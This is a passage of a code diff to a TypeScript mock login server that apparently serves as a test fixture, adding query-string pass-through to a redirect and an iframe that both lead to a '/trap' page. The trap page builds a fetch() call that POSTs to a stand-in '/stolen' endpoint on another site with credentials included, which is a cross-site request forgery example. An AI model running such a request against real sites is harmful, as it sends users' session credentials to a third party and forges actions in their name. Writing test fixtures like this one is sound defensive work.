@@ -59,12 +59,12 @@ export class LoginSite {
 
   private answer(request: http.IncomingMessage, response: http.ServerResponse): void {
     this.requests.push(request)
-    const { pathname } = new URL(request.url ?? "/", this.url)
+    const { pathname, search } = new URL(request.url ?? "/", this.url)
     const html = (body: string, status = 200) =>
       void response.writeHead(status, { "content-type": "text/html" }).end(body)
     if (pathname === "/robots.txt") return void response.end("")
-    if (pathname === "/away") return void response.writeHead(302, { location: `${this.elsewhere}/trap` }).end()
-    if (pathname === "/framed") return html(`<h1>Framed</h1><iframe src="${this.elsewhere}/trap"></iframe>`)
+    if (pathname === "/away") return void response.writeHead(302, { location: `${this.elsewhere}/trap${search}` }).end()
+    if (pathname === "/framed") return html(`<h1>Framed</h1><iframe src="${this.elsewhere}/trap${search}"></iframe>`)
     // A page that makes the browser send requests to another site.
     if (pathname === "/trap") {
       const asked = `fetch("${this.elsewhere}/stolen", { method: "POST", mode: "no-cors", credentials: "include" })`
